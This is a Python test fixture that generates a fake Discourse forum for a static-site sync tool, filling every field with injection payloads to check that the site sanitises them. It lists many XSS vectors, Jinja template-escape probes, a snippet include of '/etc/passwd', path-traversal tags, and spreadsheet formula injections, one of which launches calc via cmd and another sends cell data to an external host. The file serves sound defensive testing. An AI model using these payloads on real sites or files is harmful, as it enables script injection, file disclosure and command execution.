"""A forum whose every field tries to run script on the site: the injection corpus.

    python -m forum_sync.testing.injection --out DIR [--config-out forum-injection.yml]

writes the forum as a Discourse-JSON directory (what `forum-sync sync --from-dir` reads) and,
with --config-out, a copy of forum.yml that also publishes the extra categories whose names
are payloads. Titles, post text (as a member types it), cooked post HTML (as a broken or
hostile Discourse could send it), category names, tags and user names all carry payloads:
Markdown, attr_list, HTML, SVG, MathML, entity-encoded, mixed-case and whitespace-split
`javascript:`, `data:`, Jinja, the site's own `{{ waarde("x") }}` macro and
`<!-- werkcafe:... -->` markers, pymdownx syntax, YAML front matter and attribute breakouts.

Every payload that would show a dialog calls alert() with its own number, so a test that
sees a dialog knows which payload got through. Every topic also has a real taxonomy tag, so
payload titles reach the listing pages and related threads under the guides as well.
"""

from __future__ import annotations

import argparse
import html
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import yaml

from forum_sync.testing.demo_build import CATEGORIES, OPT_OUT_TAG, TAXONOMY, forum_tags
from forum_sync.testing.dump import render_dir, write_dir
from forum_sync.testing.model import Category, Forum, Group, Post, Topic, User

REPO_ROOT = Path(__file__).resolve().parents[2]

# Typed by a member: used as topic titles and as the text of the first post.
TEXT_PAYLOADS: tuple[str, ...] = (
    "Drie weken UWV {: onmouseover=alert(101) }",
    "Klik [hier](javascript:alert(102)) ![x](javascript:alert(1021))",
    "</title><script>alert(103)</script>",
    "<script>alert(104)</script>",
    "<img src=x onerror=alert(105)>",
    "<svg onload=alert(106)>",
    "<svg><script>alert(107)</script></svg>",
    '<a href="javascript:alert(108)">klik</a>',
    '<a href="JaVaScRiPt:alert(109)">hoofdletters</a>',
    '<a href="java&#x09;script:alert(110)">tab</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(111)">x</a>',
    "[entiteit](&#106;avascript:alert(112))",
    "[spaties](  javascript:alert(113)  )",
    "<javascript:alert(114)>",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMTUpPC9zY3JpcHQ+)",
    '<iframe src="data:text/html,<script>alert(116)</script>"></iframe>',
    '{{ waarde("bezwaartermijn") }} weken bezwaar',
    '{{ waarde("bestaat_niet_117") }}',
    "{{ config.site_name }} {{ 7*7 }} {{ alert(118) }}",
    "{% for x in range(3) %}lus{% endfor %} {% raw %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "<!-- werkcafe:matrix -->",
    "<!-- werkcafe:regelingen --> en <!-- werkcafe:situaties -->",
    '!!! danger "alert(124)"',
    '??? note "Klap open {: onclick=alert(125) }"',
    "- [x] taak <img src=x onerror=alert(126)>",
    "*[UWV]: <script>alert(127)</script>",
    "# Kop {#kop onclick=alert(128)}",
    'Knop {: .md-button href="javascript:alert(129)" }',
    '<div markdown="1">**md_in_html** <img src=x onerror=alert(130)></div>',
    '--8<-- "/etc/passwd"',
    ":material-alert: {: onclick=alert(132) }",
    '"><img src=x onerror=alert(133)>',
    "' onmouseover='alert(134)' x='",
    'Titel"\n---\n<script>alert(135)</script>\n---',
    "x\nhide: [navigation]\ntitle: <script>alert(136)</script>",
    "\u202eRTL <b onmouseover=alert(137)>omgedraaid</b>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(138)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(139)>">',
    "<style>@import 'javascript:alert(140)';</style>",
    "&lt;script&gt;alert(141)&lt;/script&gt;",
    "%3Cscript%3Ealert(142)%3C%2Fscript%3E",
    '<a href="vbscript:msgbox(143)">vb</a>',
    '<form action="javascript:alert(144)"><button>verstuur</button></form>',
    '<base href="javascript:alert(145)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(146)">',
    "<details open ontoggle=alert(147)>",
    "<input autofocus onfocus=alert(148)>",
    "${alert(149)} `${alert(1491)}`",
    "]]><script>alert(150)</script><![CDATA[",
    '"}]</script><script>alert(151)</script>',
    "<SCRIPT SRC=//example.invalid/x.js></SCRIPT>",
    '<svg><a xlink:href="javascript:alert(153)"><text y="20">svg</text></a></svg>',
    '<img src="x" onerror="&#97;lert(154)">',
    "\\<script\\>alert(155)\\</script\\>",
)

# Cooked HTML as a hostile or broken Discourse could serve it (not what a member types).
COOKED_PAYLOADS: tuple[str, ...] = (
    "<p><img src=x onerror=alert(201)></p>",
    '<p><a href="javascript:alert(202)">link</a></p>',
    "<script>alert(203)</script><p>na het script</p>",
    '<svg><animate onbegin="alert(204)" attributeName="x" dur="1s"></animate></svg>',
    '<p><a href="&#x6A;avascript:alert(205)">entiteit</a></p>',
    '<p><a href=" JAVASCRIPT:alert(206)">spatie</a></p>',
    '<p><a href="java&#09;script:alert(207)">tab</a></p>',
    '<p><a href="data:text/html,&lt;script&gt;alert(208)&lt;/script&gt;">data</a></p>',
    '<p style="background:url(javascript:alert(209))">stijl</p>',
    '<p onmouseover="alert(210)">zweef hier</p>',
    '<blockquote cite="javascript:alert(211)"><p>citaat</p></blockquote>',
    '<p>{{ waarde("bestaat_niet_212") }}</p><!-- werkcafe:matrix -->',
    '<p><a href="/t/1" onclick="alert(213)">relatief</a></p>',
    "<math><mi xlink:href=\"javascript:alert(214)\">m</mi></math>",
    '<p><iframe srcdoc="&lt;script&gt;alert(215)&lt;/script&gt;"></iframe></p>',
    '<div class="md-button" markdown="1" data-pagefind-meta="title:alert(216)">x</div>',
)

CATEGORY_PAYLOADS: tuple[str, ...] = (
    "<img src=x onerror=alert(301)>",
    "Ervaringen {: onmouseover=alert(302) }",
    '{{ waarde("bestaat_niet_303") }}',
    "</title><script>alert(304)</script>",
    '"><svg onload=alert(305)>',
    "[cat](javascript:alert(306))",
)

TAG_PAYLOADS: tuple[str, ...] = (
    "<img src=x onerror=alert(401)>",
    '{{ waarde("bestaat_niet_402") }}',
    "javascript:alert(403)",
    '"><script>alert(404)</script>',
    "ww{: onclick=alert(405) }",
    "<!-- werkcafe:matrix -->",
    # spreadsheet formulas, for tallies.csv (opened in Excel by a cliëntenraad)
    '=HYPERLINK("https://example.invalid/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)

# Municipality tags (`gemeente-<slug>`, data/gemeenten.yml), one list per topic in turn: only
# a topic with exactly one tag that matches a municipality's tag as it is gets placed there.
# Traversal, case, trailing space, Cyrillic and full-width lookalikes (the full-width one is
# "utrecht" after NFKC), zero-width space, percent-encoding, a very long tag, two real tags.
GEMEENTE_TAGS: tuple[tuple[str, ...], ...] = (
    ("gemeente-utrecht",),
    ("gemeente-../../x",),
    ("gemeente-utrecht",),
    ("Gemeente-Amsterdam",),
    ("gemeente-utrecht", "gemeente-amsterdam"),
    ("gemeente-utr\u0435cht",),
    ("gemeente-" + "a" * 3000,),
    ("gemeente-\uff55trecht",),
    ("gemeente-utrecht",),
    ("gemeente-groningen\u200b",),
    ("gemeente-%2e%2e%2fx",),
    ("gemeente-amsterdam", "gemeente-amsterdam "),
    ("gemeente-<img src=x onerror=alert(601)>",),
    ("gemeente-utrecht", "gemeente-utrecht"),
)
# The one municipality each entry above places a topic in (None: nowhere). A malformed tag
# counts for nothing, also beside a real one ("gemeente-amsterdam " places no second one).
GEMEENTE_PLACED: tuple[str | None, ...] = (
    "GM0344", None, "GM0344", None, None, None, None, None, "GM0344", None, None, "GM0363",
    None, "GM0344")

USER_NAME_PAYLOADS: tuple[str, ...] = (
    "<img src=x onerror=alert(501)>",
    "{{ waarde('bestaat_niet_502') }}",
)

# Real tags, so that payload topics are listed under regulations and situations.
REAL_TAGS = (["ww", "uwv", "ervaring-negatief"], ["wia", "keuring"], ["bijstand", "bezwaar"])
FIRST_EXTRA_CATEGORY = 20
START = datetime(2026, 3, 2, 9, tzinfo=UTC)


def payload_count() -> int:
    return (len(TEXT_PAYLOADS) + len(COOKED_PAYLOADS) + len(CATEGORY_PAYLOADS)
            + len(TAG_PAYLOADS) + len(USER_NAME_PAYLOADS) + len(GEMEENTE_TAGS))


def extra_category_slugs() -> list[str]:
    return [f"injectie-{n}" for n in range(1, len(CATEGORY_PAYLOADS) + 1)]


def build_forum() -> Forum:
    """One topic per text payload; cooked, category, tag and user payloads spread over them."""
    categories = {c.id: c for c in CATEGORIES}
    # The configured categories get payload names too (the export carries the name).
    categories[5] = Category(5, CATEGORY_PAYLOADS[0], "ervaringen", position=2)
    categories[6] = Category(6, CATEGORY_PAYLOADS[1], "vragen", position=3)
    for number, (slug, name) in enumerate(zip(extra_category_slugs(), CATEGORY_PAYLOADS,
                                              strict=True)):
        categories[FIRST_EXTRA_CATEGORY + number] = Category(
            FIRST_EXTRA_CATEGORY + number, name, slug, position=10 + number)
    forum = Forum(categories=categories)
    for tag in [*forum_tags(TAXONOMY), OPT_OUT_TAG, *TAG_PAYLOADS]:
        forum.tag_id(tag)
    names = [*USER_NAME_PAYLOADS, "Gewone Deelnemer", "Nog Iemand"]
    for user_id, name in enumerate(names, start=10):
        forum.users[user_id] = User(id=user_id, username=f"deelnemer{user_id}", name=name)
    forum.groups[OPT_OUT_TAG] = Group(id=41, name=OPT_OUT_TAG)
    category_ids = [5, 6, *range(FIRST_EXTRA_CATEGORY,
                                 FIRST_EXTRA_CATEGORY + len(CATEGORY_PAYLOADS))]
    user_ids = sorted(forum.users)
    for index, payload in enumerate(TEXT_PAYLOADS):
        topic_id = 900 + index
        created = START + timedelta(days=index)
        cooked = [f"<p>{html.escape(payload, quote=False)}</p>",
                  COOKED_PAYLOADS[index % len(COOKED_PAYLOADS)]]
        posts = [Post(id=topic_id * 1000 + number, topic_id=topic_id, post_number=number,
                      user_id=user_ids[(index + number) % len(user_ids)],
                      created_at=created + timedelta(hours=number), cooked=text)
                 for number, text in enumerate(cooked, start=1)]
        forum.topics[topic_id] = Topic(
            id=topic_id, title=payload, category_id=category_ids[index % len(category_ids)],
            user_id=posts[0].user_id, created_at=created, bumped_at=posts[-1].created_at,
            slug=f"injectie-{index}",
            tags=[*REAL_TAGS[index % len(REAL_TAGS)], TAG_PAYLOADS[index % len(TAG_PAYLOADS)],
                  *GEMEENTE_TAGS[index % len(GEMEENTE_TAGS)]],
            posts=posts)
    return forum


def write_config(target: Path, source: Path = REPO_ROOT / "forum.yml") -> Path:
    """forum.yml, publishing the extra payload-named categories as well."""
    data = yaml.safe_load(source.read_text(encoding="utf-8"))
    data["categories"]["publish"] = [*data["categories"]["publish"], *extra_category_slugs()]
    target.write_text(yaml.safe_dump(data, sort_keys=False, allow_unicode=True),
                      encoding="utf-8")
    return target


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m forum_sync.testing.injection",
                                     description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, required=True, help="Discourse-JSON directory")
    parser.add_argument("--config-out", type=Path, help="write a forum.yml for this forum")
    args = parser.parse_args(argv)
    files = render_dir(build_forum())
    write_dir(files, args.out)
    if args.config_out:
        write_config(args.config_out)
    print(f"wrote {args.out}: {len(files)} files, {payload_count()} payloads")
    return 0


if __name__ == "__main__":
    sys.exit(main())
